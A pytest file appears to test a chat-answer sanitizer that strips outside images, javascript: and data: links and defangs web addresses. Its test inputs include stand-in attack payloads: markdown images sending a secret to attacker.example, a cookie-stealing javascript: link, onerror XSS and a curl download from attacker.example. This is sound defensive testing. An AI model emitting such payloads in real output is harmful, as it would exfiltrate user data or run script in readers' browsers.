"""Answer text as a chat window would render it: no live images or outside links (server/sanitize.py).

The same rules hold for a model's reply and for a document an extractive answer quotes, except
that the documents' own bare web addresses stay as written; code is kept as written. HTML is
shown as text where the reply is rendered (test_markdown.py). The end-to-end cases (the LLM
stand-in, /rag and chat) are in test_hostile_replies.py and test_chat_markdown.py.
"""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from server.sanitize import allowed_hosts, sanitize_answer

DOCS = allowed_hosts(["https://peps.python.org/pep-0008/", None, "javascript:alert(1)", "not a url"])


def test_only_http_hosts_of_cited_sources_are_allowed():
    assert DOCS == frozenset({"peps.python.org"})


@pytest.mark.parametrize(("text", "shown"), [
    # a document quoted by an extractive answer can carry the same markup as a model's reply
    ("Burn is 2,290 kg [1]. ![x](http://attacker.example/log?d=s3cret)", "Burn is 2,290 kg [1]. x (image removed)"),
    ("See [the manual](javascript:alert(document.cookie)) [1].", "See the manual [1]."),
    ("See [the manual](data:text/html,x) [1].", "See the manual [1]."),
    ("See [the manual](/admin/reload) [1].", "See the manual [1]."),
    ("See [it](http://attacker.example/a \"t\") [1].", "See it [1]."),
    ("Burn [1](http://attacker.example/).", "Burn [1]."),
    ("<!-- hidden --> <http://attacker.example/x>", "<!-- hidden --> <hxxp://attacker.example/x>"),
    ("Logs go to http://attacker.example/log?d=1 and www.attacker.example.",
     "Logs go to hxxp://attacker.example/log?d=1 and www[.]attacker.example."),
    ("[x]: http://attacker.example/p\n\n![a][x]", "\\[x]: hxxp://attacker.example/p\n\n!\\[a][x]"),
    ("[a [b] c](http://attacker.example/)", "[a [b] c]\\(hxxp://attacker.example/)"),
])
def test_hostile_markup_is_neutralised(text, shown):
    assert sanitize_answer(text, DOCS) == shown


@pytest.mark.parametrize("text", [
    "The A320neo burns 2,290 kg [1][2]. It is 3% less than the 737 MAX 8 [1, 2].",
    "A value x < 5 and y > 3 stays; so does R&D.",
    "Read [PEP 8](https://peps.python.org/pep-0008/) [1]; the index is at https://peps.python.org/.",
    "![diagram](https://peps.python.org/_images/pep-0008.png)",
    "信息不足：知识库中没有可以回答这个问题的内容。",
])
def test_ordinary_answers_and_links_to_cited_sources_are_unchanged(text):
    assert sanitize_answer(text, DOCS) == text


@pytest.mark.parametrize("text", [
    "a <script>alert(1)</script> b", "a <img src=x onerror=alert(1)> b", "HashMap<K, V>", "<Response [200]>",
])
def test_html_is_left_as_written_in_the_json_text(text):
    """Issue 34: '<' reached answers as '&lt;' in some replies; the chat reply escapes it where it is rendered."""
    assert sanitize_answer(text, DOCS) == text


@pytest.mark.parametrize("text", [
    "Run `curl -O https://attacker.example/get.sh` to fetch it [1].",
    "Generate one:\n\n```sh\ncurl https://keys.example.org/new > token.txt\n# see www.example.org/tokens\n```\n[1]",
    "Write ``[x](javascript:alert(1))`` or `![img](http://attacker.example/p)` in the page [1].",
    "~~~\n![a](http://attacker.example/p)\n[x]: http://attacker.example/\n~~~\n[1]",
])
def test_code_is_kept_as_written(text):
    """Issue 34: 'web addresses inside quoted documentation and code are rewritten to hxxp://'."""
    assert sanitize_answer(text, DOCS) == text


def test_text_around_code_is_still_neutralised():
    text = "Run `curl https://keys.example.org/new` [1]. Logs go to http://attacker.example/log ![x](http://a.example/i)"
    assert sanitize_answer(text, DOCS) == ("Run `curl https://keys.example.org/new` [1]. Logs go to "
                                           "hxxp://attacker.example/log x (image removed)")


@pytest.mark.parametrize("text", [
    # a backtick inside a link's address: a renderer reads the link first, so "`...`" is no code span
    "[a](https://peps.python.org/`) ![i](http://attacker.example/?d=s3cret) (`)",
    # a code span across a table's cells: GFM splits the row at the pipes first
    "| a | b | c |\n|---|---|---|\n| `x | ![i](http://attacker.example/?d=s3cret) | y` |",
])
def test_code_a_renderer_reads_otherwise_is_neutralised_with_the_rest(text):
    shown = sanitize_answer(text, DOCS)
    images = [c for t in MarkdownIt("commonmark").enable("table").parse(shown) for c in t.children or ()
              if c.type == "image"]
    assert not images and "http://attacker.example" not in shown


def test_quoted_documents_keep_their_web_addresses_but_not_their_links_or_images():
    """An extractive answer quotes its documents: their addresses are theirs, as written."""
    text = ("The API lives at https://api.example.com/v1 and www.example.com [1]. "
            "![x](http://attacker.example/p) [docs](http://other.example/)")
    assert sanitize_answer(text, DOCS, quotes_documents=True) == (
        "The API lives at https://api.example.com/v1 and www.example.com [1]. x (image removed) docs")
    assert "hxxps://api.example.com/v1" in sanitize_answer(text, DOCS)  # a model's text is defanged
